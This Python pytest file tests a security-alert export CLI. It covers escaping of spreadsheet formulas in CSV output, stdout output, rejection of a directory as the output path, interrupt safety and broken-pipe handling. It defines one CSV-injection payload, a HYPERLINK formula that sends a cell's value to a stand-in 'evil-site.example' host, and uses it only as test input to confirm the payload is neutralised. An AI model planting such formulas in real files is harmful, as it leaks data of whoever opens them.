"""Exports that are safe to open and to interrupt (issue 19): formula neutralisation in every CSV the CLI
writes, `--output -` to stdout, a directory as `--output`, and SIGTERM/Ctrl-C keeping an older export.

Every run is the real CLI in a subprocess against the emulator over loopback HTTP. The emulator's first
cloud account is renamed in its live state to a spreadsheet formula, so every alert of that account
carries the name through the real API.
"""

from __future__ import annotations

import csv
import io
import json
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from cortexkit.emulator.server import RunningEmulator
from tests.integration.cli_support import cli_command, cli_env, run_cli

# The emulator derives a tag from the text after the account name's first hyphen, so the name has one.
EVIL = '=HYPERLINK("http://evil-site.example/"&A1,"open")'


@pytest.fixture
def evil(make_emulator: Callable[..., RunningEmulator]) -> RunningEmulator:
    running = make_emulator(alerts=400, accounts=2)
    state = running.emulator.state
    with state.lock:  # type: ignore[union-attr]
        state.accounts[0].name = EVIL  # type: ignore[union-attr]
    return running


def _cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text)) for value in row]


def test_csv_neutralises_formulas_in_every_command(evil: RunningEmulator, tmp_path: Path) -> None:
    env = cli_env(tmp_path, **evil.client_env())
    target = tmp_path / "alerts.csv"
    done = run_cli(
        ["alerts", "export", "-f", "csv", "-o", str(target), "--status", "open"],
        env,
        cwd=tmp_path,
    )
    assert done.returncode == 0, done.stderr
    listed = run_cli(["-o", "csv", "alerts", "list", "--status", "open", "--limit", "400"], env, cwd=tmp_path)
    assert listed.returncode == 0, listed.stderr
    accounts = run_cli(["-o", "csv", "accounts", "list"], env, cwd=tmp_path)
    assert accounts.returncode == 0, accounts.stderr

    for text in (target.read_text(encoding="utf-8"), listed.stdout, accounts.stdout):
        cells = _cells(text)
        assert "'" + EVIL in cells
        assert EVIL not in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]

    # JSON is not read by spreadsheets: the name stays the API's.
    raw = run_cli(["-o", "json", "accounts", "list"], env, cwd=tmp_path)
    assert EVIL in {row.get("name") for row in json.loads(raw.stdout)}


def test_output_dash_writes_to_stdout_not_a_file_named_dash(evil: RunningEmulator, tmp_path: Path) -> None:
    env = cli_env(tmp_path, **evil.client_env())
    counted = json.loads(run_cli(["alerts", "count", "-o", "json"], env, cwd=tmp_path).stdout)["count"]
    done = run_cli(["alerts", "export", "-f", "jsonl", "--output", "-"], env, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert len({json.loads(line)["id"] for line in done.stdout.splitlines()}) == counted
    assert "to standard output" in done.stderr

    report = run_cli(["alerts", "report", "-o", "-"], env, cwd=tmp_path)
    assert report.returncode == 0, report.stderr
    assert report.stdout.lstrip().lower().startswith("<!doctype html>")
    # The config dir is this dir here: its files (and the token cache's key file) are not exports.
    kept = ("config", "token-cache.key")
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith(kept)) == []


def test_output_naming_a_directory_is_bad_input_naming_the_users_path(
    evil: RunningEmulator, tmp_path: Path
) -> None:
    env = cli_env(tmp_path, **evil.client_env())
    folder = tmp_path / "exports"
    folder.mkdir()
    commands = (["alerts", "export", "-f", "csv", "-o", str(folder)], ["alerts", "report", "-o", str(folder)])
    for args in commands:
        done = run_cli(args, env, cwd=tmp_path)
        assert done.returncode == 2, done.stderr
        assert str(folder) in done.stderr and ".part" not in done.stderr
        assert "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1
        assert list(folder.iterdir()) == []


@pytest.mark.parametrize(("signum", "code"), [(signal.SIGTERM, 143), (signal.SIGINT, 130)])
def test_an_interrupted_export_keeps_the_older_file_and_leaves_no_partial_one(
    make_emulator: Callable[..., RunningEmulator], tmp_path: Path, signum: int, code: int
) -> None:
    env = cli_env(tmp_path, **make_emulator(alerts=10_000).client_env())
    out = tmp_path / "out"
    out.mkdir()
    target = out / "alerts.csv"
    target.write_text("the older export\n", encoding="utf-8")
    # Small pages make the export long enough to be caught in the middle.
    args = ["alerts", "export", "-f", "csv", "-o", str(target), "--page-size", "10", "--no-progress"]
    # Ctrl-C as at a terminal: a test run started in the background (`make test &`, a CI runner's shell)
    # inherits SIGINT ignored, and Python then installs no KeyboardInterrupt handler in the child.
    interruptible = [
        sys.executable,
        "-c",
        "import runpy, signal, sys; signal.signal(signal.SIGINT, signal.default_int_handler); "
        "sys.argv[0] = 'cortexkit'; runpy.run_module('cortexkit.cli.main', run_name='__main__')",
        *args,
    ]
    process = subprocess.Popen(
        interruptible, env=env, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )
    try:
        deadline = time.monotonic() + 60
        while not list(out.glob(".alerts.csv.*.part")):
            assert process.poll() is None, process.communicate()
            assert time.monotonic() < deadline, "the export never started writing"
            time.sleep(0.02)
        time.sleep(0.3)  # some pages in
        process.send_signal(signum)
        _stdout, stderr = process.communicate(timeout=60)
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
    assert process.returncode == code, stderr
    assert "Traceback" not in stderr
    assert target.read_text(encoding="utf-8") == "the older export\n"
    assert sorted(p.name for p in out.iterdir()) == ["alerts.csv"]


def test_a_reader_that_stops_early_ends_the_export_quietly(
    make_emulator: Callable[..., RunningEmulator], tmp_path: Path
) -> None:
    env = cli_env(tmp_path, **make_emulator(alerts=5_000).client_env())
    args = ["alerts", "export", "-f", "jsonl", "-o", "-", "--page-size", "200", "--no-progress"]
    process = subprocess.Popen(
        cli_command(*args), env=env, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )
    assert process.stdout is not None and process.stderr is not None
    first = process.stdout.readline()  # like `| head -1`
    process.stdout.close()
    stderr = process.stderr.read()
    process.wait(timeout=120)
    assert json.loads(first)["id"]
    assert process.returncode == 141, stderr
    assert "Traceback" not in stderr and "Exception ignored" not in stderr and "Error" not in stderr
